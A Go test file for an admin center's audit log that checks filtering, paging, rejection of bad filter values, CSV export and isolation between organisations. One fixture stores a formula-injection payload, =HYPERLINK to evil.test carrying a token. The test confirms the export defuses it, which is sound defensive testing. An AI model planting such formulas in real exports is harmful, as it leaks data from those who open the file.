package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"gorm.io/gorm"

	"admincenter/internal/audit"
	"admincenter/internal/imports"
	"admincenter/internal/paths"
	"admincenter/internal/testdb"
)

// auditScene is the demo with a history: acme.test verified and its users
// imported by Bulk User Import, initech.test added, a detail that looks
// like a formula, and Globex's own domain.
type auditScene struct {
	a                   *app
	owner               *client
	acme, initech, glob int64
	imported            int // users imported from acme.test
	orgID               int64
}

func newAuditScene(t *testing.T, db *gorm.DB) auditScene {
	t.Helper()
	a := newApp(t, db)
	s := auditScene{a: a, owner: a.client()}
	s.owner.login("owner@acme.test")
	s.orgID = a.user("owner@acme.test").OrgID()
	s.acme = verifyDomain(t, a, s.owner, "acme.test")
	s.initech = addDomain(t, s.owner, "initech.test")
	a.bulkImport(true)
	s.owner.post(fmt.Sprintf("/admin/domains/%d/imports", s.acme), url.Values{"mode": {"all"}}).want(t, http.StatusSeeOther)
	ctx := context.Background()
	for range 50 {
		if err := a.svc.Imports.RunDue(ctx); err != nil {
			t.Fatal(err)
		}
		list, err := a.svc.Imports.List(ctx, s.orgID, s.acme)
		if err != nil {
			t.Fatal(err)
		}
		if len(list) == 1 && list[0].Status == imports.Completed {
			s.imported = list[0].Imported
			break
		}
	}
	if s.imported <= 2*25 {
		t.Fatalf("%d users imported: the test needs more than two pages of them", s.imported)
	}
	err := audit.Record(db, time.Now().UTC(), s.orgID, audit.Actor{ID: 1, Email: "owner@acme.test"}, "member.role_changed",
		audit.Target{Type: "user", ID: "1", Label: "sam@acme.test"},
		`=HYPERLINK("https://evil.test/?token=`+strings.Repeat("0123456789abcdef", 8)+`","click")`)
	if err != nil {
		t.Fatal(err)
	}
	globex := a.client()
	globex.login("owner@globex.test")
	s.glob = addDomain(t, globex, "globex.test")
	return s
}

var (
	tbodyPattern = regexp.MustCompile(`(?s)<tbody class="audit-rows">(.*?)</tbody>`)
	rowPattern   = regexp.MustCompile(`(?s)<tr>(.*?)</tr>`)
	cellPattern  = regexp.MustCompile(`(?s)<td[^>]*>(.*?)</td>`)
	tagPattern   = regexp.MustCompile(`<[^>]+>`)
)

// auditEntry is a row of the audit log's table, as read.
type auditEntry struct{ actor, action, code, target, details string }

// entriesOf reads the rows of the audit table of a page.
func entriesOf(t *testing.T, body string) []auditEntry {
	t.Helper()
	m := tbodyPattern.FindStringSubmatch(body)
	if m == nil {
		return nil
	}
	var out []auditEntry
	for _, row := range rowPattern.FindAllStringSubmatch(m[1], -1) {
		cells := cellPattern.FindAllStringSubmatch(row[1], -1)
		if len(cells) != 5 {
			t.Fatalf("a row of %d cells: %s", len(cells), row[0])
		}
		action, code, _ := strings.Cut(cells[2][1], `<span class="audit-code mono">`)
		text := func(s string) string { return strings.TrimSpace(tagPattern.ReplaceAllString(s, "")) }
		out = append(out, auditEntry{text(cells[1][1]), text(action), text(code), text(cells[3][1]), text(cells[4][1])})
	}
	return out
}

// codes lists the distinct action codes of entries, in order.
func codes(entries []auditEntry) []string {
	var out []string
	for _, e := range entries {
		if !slices.Contains(out, e.code) {
			out = append(out, e.code)
		}
	}
	return out
}

func TestAuditLogFilters(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *gorm.DB) {
		s := newAuditScene(t, db)
		c := s.owner
		today := time.Now().UTC().Format(time.DateOnly)
		yesterday := time.Now().UTC().AddDate(0, 0, -1).Format(time.DateOnly)
		acme := fmt.Sprint(s.acme)

		// Words, with the code beside them.
		r := c.get(paths.Audit)
		r.want(t, http.StatusOK, "Download CSV", `<optgroup label="Domains">`, `<option value="domain.verified">Domain verified</option>`,
			fmt.Sprintf(`<option value="%d">acme.test</option>`, s.acme), fmt.Sprintf(`<option value="%d">initech.test</option>`, s.initech))
		all := entriesOf(t, r.body)
		if len(all) != 25 || all[0] != (auditEntry{"owner@acme.test", "Role changed", "member.role_changed", "sam@acme.test", all[0].details}) {
			t.Fatalf("the log's first page: %+v", all)
		}
		if strings.Contains(r.body, "globex.test") {
			t.Fatal("Acme's log names Globex's domain")
		}

		atAcme := func(e auditEntry) bool {
			return e.target == "acme.test" || strings.HasSuffix(e.target, " of acme.test") || strings.HasSuffix(e.target, "@acme.test")
		}
		cases := []struct {
			name   string
			filter paths.AuditFilter
			want   []string              // action codes among those listed
			keep   func(auditEntry) bool // true of every entry listed
			total  int                   // of the entries listed, when it is known
		}{
			{"action", paths.AuditFilter{Action: "domain.added"}, []string{"domain.added"},
				func(e auditEntry) bool { return e.code == "domain.added" && e.action == "Domain added" }, 2},
			{"actor, in part and any case", paths.AuditFilter{Actor: "OWNER@"}, []string{"member.role_changed", "user.imported"},
				func(e auditEntry) bool { return e.actor == "owner@acme.test" }, 25},
			{"actor and action", paths.AuditFilter{Actor: "owner@acme", Action: "domain.added"}, []string{"domain.added"},
				func(e auditEntry) bool { return e.actor == "owner@acme.test" }, 2},
			{"the system", paths.AuditFilter{Actor: "system"}, []string{"import.completed", "import.report_ready"},
				func(e auditEntry) bool { return e.actor == "system" }, 0},
			{"domain: itself, its report and its people", paths.AuditFilter{Domain: acme},
				[]string{"member.role_changed", "import.completed", "user.imported"}, atAcme, 25},
			{"domain: its own entries", paths.AuditFilter{Domain: acme, Action: "domain.verified"}, []string{"domain.verified"},
				func(e auditEntry) bool { return e.target == "acme.test" }, 1},
			{"domain: its report", paths.AuditFilter{Domain: acme, Action: "import.report_requested"}, []string{"import.report_requested"},
				func(e auditEntry) bool {
					return regexp.MustCompile(`^report #\d+ of acme\.test$`).MatchString(e.target)
				}, 1},
			{"domain: its people", paths.AuditFilter{Domain: acme, Action: "user.signed_in"}, []string{"user.signed_in"},
				func(e auditEntry) bool { return e.target == "owner@acme.test" }, 1},
			{"another domain", paths.AuditFilter{Domain: fmt.Sprint(s.initech)}, []string{"domain.added"},
				func(e auditEntry) bool { return e.target == "initech.test" }, 1},
			{"today", paths.AuditFilter{From: today, To: today, Action: "domain.verified"}, []string{"domain.verified"},
				func(e auditEntry) bool { return e.target == "acme.test" }, 1},
			{"until yesterday", paths.AuditFilter{To: yesterday}, []string{"organization.created"},
				func(e auditEntry) bool { return e.code == "organization.created" }, 1},
			{"a range with nothing", paths.AuditFilter{From: "2001-01-01", To: "2001-12-31"}, nil, nil, 0},
			{"combined", paths.AuditFilter{Actor: "owner@acme.test", Action: "domain.added", Domain: acme, From: today, To: today},
				[]string{"domain.added"}, func(e auditEntry) bool { return e.target == "acme.test" }, 1},
		}
		for _, cs := range cases {
			t.Run(cs.name, func(t *testing.T) {
				r := c.get(paths.AuditFiltered(cs.filter))
				r.want(t, http.StatusOK, "Clear filters")
				got := entriesOf(t, r.body)
				if cs.want == nil {
					r.want(t, http.StatusOK, "No entries match these filters")
					if len(got) != 0 {
						t.Fatalf("listed %+v", got)
					}
					return
				}
				for _, code := range cs.want {
					if !slices.Contains(codes(got), code) {
						t.Errorf("%s is not listed: %q", code, codes(got))
					}
				}
				for _, e := range got {
					if !cs.keep(e) {
						t.Errorf("%+v is listed", e)
					}
				}
				if cs.total > 0 && len(got) != cs.total {
					t.Errorf("%d entries listed, want %d: %+v", len(got), cs.total, got)
				}
				r.want(t, http.StatusOK, `href="`+paths.AuditCSVFiltered(cs.filter)+`"`)
			})
		}

		// The pager keeps the filter.
		r = c.get(paths.AuditFiltered(paths.AuditFilter{Action: "user.imported", Domain: acme}))
		pages := (s.imported + 24) / 25
		r.want(t, http.StatusOK, fmt.Sprintf("%d entries · page 1 of %d", s.imported, pages))
		next := regexpFind(t, r.body, `href="([^"]+)" rel="next"`)
		if q, _ := url.Parse(next); q.Query().Get("action") != "user.imported" || q.Query().Get("domain") != acme || q.Query().Get("page") != "2" {
			t.Fatalf("the next page's link %s drops the filter", next)
		}
		r = c.get(next)
		r.want(t, http.StatusOK, fmt.Sprintf("page 2 of %d", pages))
		if got := entriesOf(t, r.body); len(got) != 25 || !slices.Equal(codes(got), []string{"user.imported"}) {
			t.Fatalf("page 2: %+v", got)
		}

		// The domain's page shows its activity in words.
		c.get(paths.Domain(s.acme)).want(t, http.StatusOK, "Domain verified", `<span class="audit-code mono">domain.verified</span>`)
	})
}

// A value that cannot be used is said next to its field and filters
// nothing, on either database; it is never an error page.
func TestAuditLogBadFilters(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *gorm.DB) {
		s := newAuditScene(t, db)
		c := s.owner
		unfiltered := len(entriesOf(t, c.get(paths.Audit).body))
		cases := []struct {
			name, query, field, message string
			filtered                    bool // by what else the query asks
		}{
			{"a day that does not exist", "from=2026-02-30", "from", "“2026-02-30” is not a date: write it as YYYY-MM-DD", false},
			{"not a date", "to=tomorrow", "to", "“tomorrow” is not a date", false},
			{"the last day before the first", "from=2026-03-05&to=2026-03-01", "to", "The last day, 2026-03-01, is before the first, 2026-03-05.", false},
			{"an unknown action", "action=domain.stolen", "action", "There is no such action", false},
			{"an action's words for its code", "action=Domain+added", "action", "There is no such action", false},
			{"another organization's domain", fmt.Sprintf("domain=%d", s.glob), "domain", "This is not a domain of your organization", false},
			{"no domain at all", "domain=999999", "domain", "This is not a domain of your organization", false},
			{"a domain that is no number", "domain=acme.test", "domain", "This is not a domain of your organization", false},
			{"an actor with a NUL byte", "actor=owner%00", "actor", "An actor is an email address", false},
			{"an actor that is not UTF-8", "actor=%FF%FE", "actor", "An actor is an email address", false},
			{"a bad value among good ones", "action=domain.added&from=1.1.2026", "from", "is not a date", true},
		}
		for _, cs := range cases {
			t.Run(cs.name, func(t *testing.T) {
				r := c.get(paths.Audit + "?" + cs.query)
				r.want(t, http.StatusOK, cs.message, `id="f-`+cs.field+`-error"`, `The list below is not filtered by`)
				if !regexp.MustCompile(`id="f-` + cs.field + `"[^>]*aria-invalid="true"`).MatchString(r.body) {
					t.Errorf("the field %s is not marked invalid", cs.field)
				}
				got := entriesOf(t, r.body)
				if cs.filtered {
					if !slices.Equal(codes(got), []string{"domain.added"}) {
						t.Errorf("the good values do not filter: %q", codes(got))
					}
				} else if len(got) != unfiltered {
					t.Errorf("%d entries listed, want the unfiltered %d", len(got), unfiltered)
				}
				if strings.Contains(r.body, "globex.test") {
					t.Error("the page names another organization's domain")
				}
				// The CSV asks for exactly what the page shows: refused, not a 500.
				c.get(paths.AuditCSV+"?"+cs.query).want(t, http.StatusUnprocessableEntity, cs.message)
				if cs.filtered {
					r.want(t, http.StatusOK, `href="`+paths.AuditCSVFiltered(paths.AuditFilter{Action: "domain.added"})+`"`)
				}
			})
		}
	})
}

func TestAuditCSV(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *gorm.DB) {
		s := newAuditScene(t, db)
		c := s.owner

		// More than one page of the CSV's reads.
		var many []audit.Entry
		for i := range 1500 {
			many = append(many, audit.NewEntry(time.Now().UTC(), s.orgID, audit.System, "user.signed_in",
				audit.Target{Type: "user", ID: fmt.Sprint(i), Label: fmt.Sprintf("person%d@acme.test", i)}, "from 10.0.0.1"))
		}
		if err := audit.RecordAll(db, many); err != nil {
			t.Fatal(err)
		}
		var total int64
		db.Model(&audit.Entry{}).Where("organization_id = ?", s.orgID).Count(&total)

		r := c.get(paths.AuditCSV)
		r.want(t, http.StatusOK)
		today := time.Now().UTC().Format(time.DateOnly)
		if got := r.header.Get("Content-Disposition"); got != `attachment; filename=audit-log-`+today+`.csv` {
			t.Errorf("Content-Disposition %q", got)
		}
		if got := r.header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type %q", got)
		}
		if !strings.HasPrefix(r.body, "time_utc,actor,action,action_code,target_type,target_id,target,details\r\n") || strings.Count(r.body, "\r\n") < int(total)+1 {
			t.Fatalf("not an RFC 4180 CSV with CRLF line ends:\n%.500s", r.body)
		}
		rows := csvRows(t, r.body)
		if int64(len(rows)) != total+1 {
			t.Fatalf("%d rows, want a header and the %d entries", len(rows), total)
		}
		if want := "'=HYPERLINK(\"https://evil.test/?token="; !strings.HasPrefix(rows[1501][7], want) {
			t.Errorf("a formula-like detail is written %q, want it to begin with %q", rows[1501][7], want)
		}
		if strings.Contains(r.body, "globex") {
			t.Error("the CSV holds another organization's entries")
		}

		// Filtered as the page: only the users imported from acme.test.
		f := paths.AuditFilter{Action: "user.imported", Domain: fmt.Sprint(s.acme)}
		r = c.get(paths.AuditCSVFiltered(f))
		r.want(t, http.StatusOK)
		if got := r.header.Get("Content-Disposition"); got != `attachment; filename=audit-log-acme.test-`+today+`.csv` {
			t.Errorf("Content-Disposition %q", got)
		}
		rows = csvRows(t, r.body)
		if len(rows) != s.imported+1 {
			t.Fatalf("%d rows, want a header and %d imported users", len(rows), s.imported)
		}
		for _, row := range rows[1:] {
			if row[2] != "User imported" || row[3] != "user.imported" || row[4] != "user" || !strings.HasSuffix(row[6], "@acme.test") {
				t.Fatalf("row %q is not a user imported from acme.test", row)
			}
			if _, err := time.Parse(time.RFC3339, row[0]); err != nil {
				t.Fatalf("time %q: %v", row[0], err)
			}
		}

		// Only the organization's Owner and Administrators, and each gets
		// their own.
		sam := s.a.client()
		sam.login("sam@acme.test")
		sam.get(paths.AuditCSV).want(t, http.StatusForbidden)
		if r := s.a.client().get(paths.AuditCSV); r.status != http.StatusSeeOther || !strings.HasPrefix(r.location, paths.Login) {
			t.Errorf("a visitor gets %d %s", r.status, r.location)
		}
		globex := s.a.client()
		globex.login("owner@globex.test")
		r = globex.get(paths.AuditCSV)
		r.want(t, http.StatusOK, "Domain added,domain.added,domain,")
		if strings.Contains(r.body, "acme.test") {
			t.Errorf("Globex's CSV holds Acme's entries:\n%s", r.body)
		}
		globex.get(paths.AuditCSVFiltered(paths.AuditFilter{Domain: fmt.Sprint(s.acme)})).
			want(t, http.StatusUnprocessableEntity, "This is not a domain of your organization")
	})
}

func csvRows(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v", err)
	}
	return rows
}
